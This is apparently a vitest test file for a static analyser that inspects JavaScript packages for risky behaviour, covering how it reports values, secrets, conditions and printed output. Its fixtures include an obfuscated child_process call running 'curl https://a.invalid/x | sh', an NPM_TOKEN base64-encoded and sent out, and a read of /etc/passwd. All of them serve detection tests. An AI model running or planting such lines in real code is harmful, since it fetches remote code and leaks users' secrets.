import { describe, expect, test } from 'vitest';
import { readMemory } from '../src/read/memory.js';
import { answerJson, answerText, unansweredInWords } from '../src/report/answer.js';
import { placeMeant } from '../src/report/places.js';
import type { Answer, Place, ToldExpression, Unanswered } from '../src/run/answers.js';
import { ask } from '../src/run/ask.js';
import type { Stage } from '../src/types.js';

async function asked(
  files: Readonly<Record<string, string | Uint8Array>> | string,
  place: Omit<Place, 'path'> & { readonly path?: string },
  without: readonly Stage[] = [],
): Promise<Answer | Unanswered> {
  const given = typeof files === 'string' ? { 'index.js': files } : files;
  return ask(
    await readMemory({ files: { 'package.json': '{}', ...given } }),
    { path: 'index.js', ...place },
    { without },
  );
}

/** What is known where the words stand in the code: of the widest expression that begins there, or of one by its text. */
async function known(
  code: string,
  words: string,
  text?: string,
  without: readonly Stage[] = [],
): Promise<ToldExpression> {
  const offset = code.indexOf(words);
  const before = code.slice(0, offset).split('\n');
  const place = { line: before.length, column: (before.at(-1)?.length ?? 0) + 1 };
  const answer = await asked(code, place, without);
  if ('why' in answer) throw new Error(answer.why);
  const found = text === undefined ? answer.expressions.at(-1) : answer.expressions.find(one => one.text === text);
  if (!found) throw new Error(`${answer.expressions.map(one => one.text).join(', ')}`);
  return found;
}

const HIDDEN = `const held = new Set([require('child_process')]);
for (const api of held) api['ex' + 'ec'].call(api, 'curl https://a.invalid/x | sh');`;

describe('of an expression is told', () => {
  test('what it may be: constants, names, functions and objects', async () => {
    const code = `function f() {} const a = { b: 1 }; use(x ? 'y' + 1 : x ? f : x ? a : require('child_process').exec);`;
    const { value } = await known(code, 'x ?');
    expect(value.constants).toEqual(['"y1"']);
    expect(value.names).toEqual(['child_process.exec']);
    expect(value.functions).toEqual(['function f() {} (index.js:1:1)']);
    expect(value.objects).toEqual(['{ b: 1 } (index.js:1:27)']);
    expect(value.open).toBe(false);
  });

  test('where it comes from, and by which way', async () => {
    const { value } = await known(`send(Buffer.from(process.env.NPM_TOKEN).toString('base64'));`, 'Buffer');
    expect(value.labels).toMatchObject([{ kind: 'secret', detail: 'NPM_TOKEN', at: 'index.js:1:18' }]);
    expect(value.labels[0]?.through.join()).toMatch(/base64/);
  });

  test('what is not known in a text', async () => {
    expect((await known('exports.f = a => use("x" + a);', '"x" + a', '"x" + a')).value).toMatchObject({
      constants: ['"x…"'],
    });
  });

  test('that a caller outside of the package hands it in', async () => {
    expect((await known('exports.f = one => use(one);', 'one)')).isHandedIn).toBe(true);
    expect((await known('const one = 1; use(one);', 'one)')).isHandedIn).toBe(false);
  });

  test('what the walk saw, of it and of its parts', async () => {
    const call = await known(HIDDEN, "api['");
    expect(call.walk?.names).toEqual(['child_process.exec()']);
    expect(call.parts.map(({ text, walk }) => [text, walk?.names])).toContainEqual(['api', ['child_process']]);
    expect((await known(HIDDEN, "api['", undefined, ['walk'])).walk).toBeUndefined();
  });

  test('which calls rules are told of', async () => {
    expect((await known(HIDDEN, "api['")).calls).toEqual([
      { name: 'child_process.exec', args: ['"curl https://a.invalid/x | sh"'], isWritten: false },
    ]);
    expect((await known(`require('fs').readFileSync('/etc/passwd');`, 'require')).calls).toEqual([
      { name: 'fs.readFileSync', args: ['"/etc/passwd"'], isWritten: true },
    ]);
  });

  test('what the interpreter makes of it', async () => {
    const code = `const open = s => { let t = ''; for (let i = 0; i < s.length; i++) t += String.fromCharCode(s.charCodeAt(i) ^ 7); return t; }; use(open('ab'));`;
    expect((await known(code, "open('")).interpreter).toBe('"fe"');
    expect((await known(code, "open('", undefined, ['interpreter'])).interpreter).toBeUndefined();
    expect((await known('exports.f = a => use(a);', 'a)')).interpreter).toBeUndefined();
  });

  test('whether the name of an API may reach it', async () => {
    expect((await known(`require('fs').readFileSync('a');`, 'require')).isReached).toBe(true);
    expect((await known('exports.f = a => a.b(1);', 'a.b')).isReached).toBe(false);
  });

  test('the conditions it stands under, and what the walk supposes', async () => {
    const code = `exports.f = (key, other) => {
  if (other) return;
  if (key === 'run' && other !== 2) {
    switch (other) { case 1: use(key); }
  }
};`;
    expect((await known(code, 'use(key)')).conditions).toEqual([
      { test: 'other is 1', holds: true, at: 'index.js:4:13', supposes: ['other is 1'] },
      { test: "key === 'run' && other !== 2", holds: true, at: 'index.js:3:7', supposes: ["key is 'run'"] },
      { test: 'other', holds: false, at: 'index.js:2:7', supposes: [] },
    ]);
  });

  test('what must hold of the machine', async () => {
    const { guards } = await known(`if (process.platform === 'win32') use(1);`, 'use(1)');
    expect(guards).toEqual(['the platform is "win32" (index.js:1:5)']);
  });

  test('where a bound was hit', async () => {
    const chain = Array.from({ length: 300 }, (_, at) => `const v${at + 1} = v${at};`).join(' ');
    const deep = await known(`const v0 = 1; ${chain} use(v300);`, 'use');
    const at = /^(?:the variable v\d+|v\d+ \(index\.js:1:\d+\))$/;
    expect(deep.bounds[0]).toEqual({ bound: '200 evaluations wait for each other', at: expect.stringMatching(at) });
    expect(deep.parts.at(-1)?.value.open).toBe(true);
    expect((await known('use(1);', 'use')).bounds).toEqual([]);
  });
});

describe('of the file is told', () => {
  const at = { line: 1, column: 1 };

  test('how it was read, when it runs, and whether it is worth a look', async () => {
    expect(
      await asked({ 'package.json': '{"scripts":{"postinstall":"node index.js"}}', 'index.js': 'a(1);' }, at),
    ).toMatchObject({
      grammar: 'meriyah',
      moment: 'install',
      isConcerning: false,
      unparsed: 0,
      walk: { steps: 0, isDone: false, isCut: false },
    });
    expect(await asked({ 'index.ts': `require('fs') as A;` }, { ...at, path: 'index.ts' })).toMatchObject({
      grammar: 'babel',
      isConcerning: true,
      walk: { isDone: true },
    });
  });

  test.each([
    [
      'a file that is not there',
      {},
      { ...at, path: 'indx.js' },
      'there is no file indx.js in it; did you mean index.js?',
    ],
    ['what is no text', { a: new Uint8Array([0, 255]) }, { ...at, path: 'a' }, 'a is no text'],
    ['what is no code', {}, { ...at, path: 'package.json' }, 'package.json is no code, as far as anybody knows'],
    ['a line behind the end', {}, { line: 9, column: 1 }, 'index.js has no character at 9:1'],
    ['a column behind the end of a line', {}, { line: 1, column: 99 }, 'index.js has no character at 1:99'],
    ['a line before the first', {}, { line: 0, column: 1 }, 'index.js has no character at 0:1'],
    ['a place between statements', {}, { line: 2, column: 1 }, 'there is no expression at index.js:2:1'],
    ['a file that nobody can parse', { 'b.js': '"' }, { ...at, path: 'b.js' }, /^b\.js cannot be parsed there: \S/],
    [
      'a part that nobody can parse',
      { 'b.js': 'a(1);\nvar b = = 2;\nc(3);' },
      { line: 2, column: 9, path: 'b.js' },
      /^b\.js cannot be parsed there: \S/,
    ],
  ] as const)('why nothing is known of %s', async (_, files, place, why) => {
    const given = { 'index.js': 'a(1);\n  b(2);', ...files };
    const answer = await asked(given, place);
    expect('why' in answer && unansweredInWords(answer, { path: 'index.js', ...place })).toMatch(
      typeof why === 'string' ? new RegExp(`^${why.replaceAll('?', '\\?')}$`) : why,
    );
  });
});

test.each([
  ['a sum of 100,000 terms', `use(first${' + 1'.repeat(100_000)});`],
  ['10,000 conditions', `${'if (a) '.repeat(300)}${'a && '.repeat(10_000)}first();`],
  ['a function in 300 blocks', `${'{ if (b) return; '.repeat(300)}first();${' }'.repeat(300)}`],
])('an answer is bounded: %s', async (_, code) => {
  const answer = await asked(`require('fs'); ${code}`, { line: 1, column: 16 + code.indexOf('first') });
  expect(JSON.stringify(answer).length).toBeLessThan(50_000);
  expect('expressions' in answer && answer.expressions[0]?.text).toBe('first');
});

describe('in print', () => {
  const evil = `use('\u202e\u001b[2J' + process.env.HOME);`;

  test('it is a table, with everything escaped', async () => {
    const answer = (await asked(evil, { line: 1, column: 5 })) as Answer;
    const text = answerText(answer, { columns: 80, colour: false });
    expect(text).toMatch(/^index\.js:1:5\nruns \S/);
    expect(text).toMatch(/\n {2}constants {5}"\\u\{202e\}/);
    expect(text).toMatch(/\n {2}open {10}(?:yes|no): /);
    expect(text + answerJson(answer)).not.toMatch(/[\u001b\u202e]/);
    expect(JSON.parse(answerJson(answer))).toEqual(answer);
    expect(text.split('\n').every(line => line.length <= 80)).toBe(true);
  });

  test('it has colours where they are wanted', async () => {
    const answer = (await asked(evil, { line: 1, column: 5 })) as Answer;
    expect(answerText(answer, { columns: 80, colour: true })).toContain('\u001b[');
  });

  test('what is long is cut', async () => {
    const answer = (await asked(`use('${'x'.repeat(100_000)}', [${'1,'.repeat(5_000)}]);`, {
      line: 1,
      column: 1,
    })) as Answer;
    expect(answerJson(answer).length).toBeLessThan(10_000);
  });
});

test.each([
  ['a.js:3:14', { path: 'a.js', line: 3, column: 14 }],
  ['dist/a:b.js:1:1', { path: 'dist/a:b.js', line: 1, column: 1 }],
  ['a.js', undefined],
  ['a.js:3', undefined],
  [':3:14', undefined],
])('%s names a place, or none', (text, place) => {
  expect(placeMeant(text)).toEqual(place);
});
